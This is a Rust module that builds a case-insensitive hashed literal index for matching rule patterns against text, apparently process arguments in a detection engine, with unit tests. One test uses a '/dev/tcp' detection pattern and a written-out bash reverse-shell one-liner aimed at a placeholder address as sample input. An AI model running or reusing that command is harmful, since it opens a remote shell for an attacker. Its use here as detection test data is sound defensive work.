//! Looks up which literals a text has, for all rules at once.
//!
//! Literals are known by their hashes only. A collision costs a look at a condition and never a match, since every
//! candidate's condition is evaluated; so hashing forgets the case of letters as well.

use super::require::{GRAM, Literal, Place};

/// A set of entries of the index, a bit each.
pub(super) type Bits = Vec<u64>;

/// The literals of one field.
#[derive(Clone, Debug, Default)]
pub(super) struct Literals {
    ends: Table,
    /// The lengths of beginnings and ends that are looked up.
    fronts: Vec<usize>,
    backs: Vec<usize>,
    inside: Table,
    /// A bit for each window that begins a look into `inside`.
    windows: Option<Box<[u64; WINDOW_WORDS]>>,
    has_whole: bool,
}

/// How many words the filter of windows has. Windows of a text are many: it is made to be asked fast.
const WINDOW_WORDS: usize = 128;

/// Beginnings and ends are cut to one of these lengths, so that a text is hashed a few times and not once a literal.
const CUTS: [usize; 4] = [16, 8, 4, 2];

impl Literals {
    /// `literals` of the field, each with the entry that requires it.
    pub(super) fn new(literals: &[(usize, &Literal)]) -> Self {
        let mut this = Self::default();
        let mut ends = Vec::new();
        let mut inside = Vec::new();
        for (entry, literal) in literals {
            let text = literal.text.as_bytes();
            let cut = CUTS.into_iter().find(|cut| *cut <= text.len()).unwrap_or(text.len());
            match literal.place {
                Place::Whole => {
                    this.has_whole = true;
                    ends.push((hash(text, Place::Whole), *entry));
                }
                Place::Front => {
                    this.fronts.push(cut);
                    ends.push((hash(text.get(..cut).unwrap_or(text), Place::Front), *entry));
                }
                Place::Back => {
                    this.backs.push(cut);
                    ends.push((hash(text.get(text.len() - cut..).unwrap_or(text), Place::Back), *entry));
                }
                Place::Inside => {
                    let gram = rarest(text);
                    let (word, bit) = window_place(gram);
                    let windows = this.windows.get_or_insert_with(|| Box::new([0; WINDOW_WORDS]));
                    if let Some(word) = windows.get_mut(word) {
                        *word |= bit;
                    }
                    inside.push((hash_gram(gram), *entry));
                }
            }
        }
        for lengths in [&mut this.fronts, &mut this.backs] {
            lengths.sort_unstable();
            lengths.dedup();
        }
        this.ends = Table::new(ends);
        this.inside = Table::new(inside);
        this
    }

    /// Sets the bits of the entries of which `text` has a literal.
    pub(super) fn find(&self, text: &str, found: &mut [u64]) {
        let text = text.as_bytes();
        if self.has_whole {
            self.ends.find(hash(text, Place::Whole), found);
        }
        for length in &self.fronts {
            if let Some(front) = text.get(..*length) {
                self.ends.find(hash(front, Place::Front), found);
            }
        }
        for length in &self.backs {
            if let Some(back) = text.len().checked_sub(*length).and_then(|start| text.get(start..)) {
                self.ends.find(hash(back, Place::Back), found);
            }
        }
        if let Some(windows) = &self.windows {
            for window in text.windows(GRAM) {
                let Some(&gram) = window.first_chunk() else { break };
                let (word, bit) = window_place(gram);
                if windows.get(word).is_some_and(|word| word & bit != 0) {
                    self.inside.find(hash_gram(gram), found);
                }
            }
        }
    }
}

/// Hashes with the entries they stand for.
#[derive(Clone, Debug, Default)]
struct Table {
    /// A bit for each hash, by some of its own bits: most lookups end here.
    filter: Vec<u64>,
    /// Hashes in places that follow from them, or in the next free ones; 0 is free.
    hashes: Vec<u64>,
    /// For each place where its postings begin and end.
    ranges: Vec<(u32, u32)>,
    /// Words of the set of entries, with the bits to set there.
    postings: Vec<(u32, u64)>,
}

impl Table {
    fn new(mut pairs: Vec<(u64, usize)>) -> Self {
        if pairs.is_empty() {
            return Self::default();
        }
        pairs.sort_unstable();
        pairs.dedup();
        let distinct = pairs.chunk_by(|a, b| a.0 == b.0).count();
        let places = (distinct * 2).next_power_of_two();
        let mut table = Self {
            filter: vec![0; (distinct / 4).next_power_of_two()],
            hashes: vec![0; places],
            ranges: vec![(0, 0); places],
            postings: Vec::new(),
        };
        for group in pairs.chunk_by(|a, b| a.0 == b.0) {
            let Some(&(hash, _)) = group.first() else { continue };
            let start = index(table.postings.len());
            for &(_, entry) in group {
                let (word, bit) = (index(entry / 64), 1 << (entry % 64));
                match table.postings.get_mut(start as usize..).and_then(<[_]>::last_mut) {
                    Some(last) if last.0 == word => last.1 |= bit,
                    _ => table.postings.push((word, bit)),
                }
            }
            table.put(hash, (start, index(table.postings.len())));
        }
        table
    }

    fn put(&mut self, hash: u64, range: (u32, u32)) {
        let (word, bit) = self.filter_place(hash);
        if let Some(word) = self.filter.get_mut(word) {
            *word |= bit;
        }
        let mut place = self.place(hash);
        while self.hashes.get(place).is_some_and(|taken| *taken != 0) {
            place = (place + 1) & (self.hashes.len() - 1);
        }
        if let (Some(free), Some(space)) = (self.hashes.get_mut(place), self.ranges.get_mut(place)) {
            *free = hash;
            *space = range;
        }
    }

    #[inline]
    fn find(&self, hash: u64, found: &mut [u64]) {
        let (word, bit) = self.filter_place(hash);
        if self.filter.get(word).is_some_and(|word| word & bit != 0) {
            self.find_in_table(hash, found);
        }
    }

    fn find_in_table(&self, hash: u64, found: &mut [u64]) {
        let mut place = self.place(hash);
        // There are twice as many places as hashes: a free one comes.
        while let Some(&known) = self.hashes.get(place) {
            if known == hash {
                let (start, end) = self.ranges.get(place).copied().unwrap_or_default();
                for (word, bits) in self.postings.get(start as usize..end as usize).unwrap_or_default() {
                    if let Some(word) = found.get_mut(*word as usize) {
                        *word |= bits;
                    }
                }
                return;
            }
            if known == 0 {
                return;
            }
            place = (place + 1) & (self.hashes.len() - 1);
        }
    }

    #[expect(clippy::cast_possible_truncation, reason = "some bits of a hash are as good as others")]
    fn place(&self, hash: u64) -> usize {
        hash as usize & self.hashes.len().wrapping_sub(1)
    }

    fn filter_place(&self, hash: u64) -> (usize, u64) {
        let bits = hash >> 32;
        ((bits >> 6) as usize & self.filter.len().wrapping_sub(1), 1 << (bits & 63))
    }
}

fn index(number: usize) -> u32 {
    u32::try_from(number).unwrap_or(u32::MAX)
}

const FOLD: u64 = 0x2020_2020_2020_2020;
const ODD: u64 = 0x9e37_79b9_7f4a_7c15;

/// The hash of a text, letters in whatever case; never 0.
#[inline]
fn hash(text: &[u8], place: Place) -> u64 {
    let mut state = (text.len() as u64) << 8 | place as u64;
    let mut rest = text;
    while let Some((chunk, after)) = rest.split_first_chunk::<8>() {
        if after.is_empty() {
            break;
        }
        state = mix(state ^ (u64::from_le_bytes(*chunk) | FOLD));
        rest = after;
    }
    // The last one to eight bytes; what overlaps counts twice, which does no harm.
    let last = if let Some(chunk) = text.last_chunk::<8>() {
        u64::from_le_bytes(*chunk)
    } else if let (Some(front), Some(back)) = (rest.first_chunk::<4>(), rest.last_chunk::<4>()) {
        u64::from(u32::from_le_bytes(*front)) << 32 | u64::from(u32::from_le_bytes(*back))
    } else {
        rest.iter().fold(0, |all, byte| all << 8 | u64::from(*byte))
    };
    mix(state ^ (last | FOLD)) | 1
}

/// Where the bit of a window is.
#[inline]
fn window_place(gram: [u8; GRAM]) -> (usize, u64) {
    let hash = (u32::from_le_bytes(gram) | 0x2020_2020).wrapping_mul(0x9e37_79b1);
    // Seven bits for the word, six for the bit.
    ((hash >> 25) as usize, 1 << (hash >> 19 & 63))
}

#[inline]
fn hash_gram(gram: [u8; GRAM]) -> u64 {
    mix(u64::from(u32::from_le_bytes(gram)) | FOLD) | 1
}

#[inline]
fn mix(state: u64) -> u64 {
    let product = state.wrapping_mul(ODD);
    product ^ product >> 29
}

/// The window of `text` that the fewest other texts will have.
fn rarest(text: &[u8]) -> [u8; GRAM] {
    let common = |byte: &u8| match byte {
        b' ' | b'/' | b'-' | b'.' | b'e' => 8,
        b'a' | b'i' | b'n' | b'o' | b'r' | b's' | b't' | b'l' => 5,
        b'b' | b'c' | b'd' | b'm' | b'p' | b'u' | b'0' | b'1' => 3,
        _ => 1,
    };
    let windows = text.windows(GRAM).min_by_key(|window| window.iter().map(common).sum::<u32>());
    windows.and_then(<[u8]>::first_chunk).copied().unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::FieldId;

    fn found(literals: &[(Place, &str)], text: &str) -> Vec<usize> {
        let literals: Vec<Literal> = literals
            .iter()
            .map(|(place, text)| Literal {
                field: FieldId::ProcessArgs,
                place: *place,
                text: (*text).to_owned(),
            })
            .collect();
        let with_entries: Vec<(usize, &Literal)> = literals.iter().enumerate().collect();
        let mut bits = vec![0; literals.len().div_ceil(64)];
        Literals::new(&with_entries).find(text, &mut bits);
        (0..literals.len()).filter(|entry| bits[entry / 64] & 1 << (entry % 64) != 0).collect()
    }

    #[test]
    fn literals_are_found_where_they_stand_whatever_their_case() {
        let literals = [
            (Place::Whole, "apt"),
            (Place::Whole, ""),
            (Place::Whole, "/usr/bin/python3"),
            (Place::Front, "/usr/"),
            (Place::Front, "py"),
            (Place::Back, "python3"),
            (Place::Back, "/usr/bin/python3"),
            (Place::Inside, "/bin/p"),
            (Place::Inside, "/dev/tcp"),
        ];
        assert_eq!(found(&literals, "apt"), [0]);
        assert_eq!(found(&literals, "APT"), [0]);
        assert_eq!(found(&literals, ""), [1]);
        assert_eq!(found(&literals, "/usr/bin/Python3"), [2, 3, 5, 6, 7]);
        assert_eq!(found(&literals, "Python3"), [4, 5]);
        assert_eq!(found(&literals, "bash -i >& /dev/TCP/1.2.3.4/5"), [8]);
        assert_eq!(found(&literals, "ap"), [0_usize; 0]);
    }

    #[test]
    fn thousands_of_literals_are_each_found_by_their_own_entry() {
        let names: Vec<String> = (0..5000).map(|number| format!("name-{number}")).collect();
        let literals: Vec<(Place, &str)> = names.iter().map(|name| (Place::Whole, name.as_str())).collect();
        for (entry, name) in names.iter().enumerate().step_by(397) {
            assert_eq!(found(&literals, name), [entry]);
        }
        assert!(found(&literals, "name-5000").is_empty());
    }
}
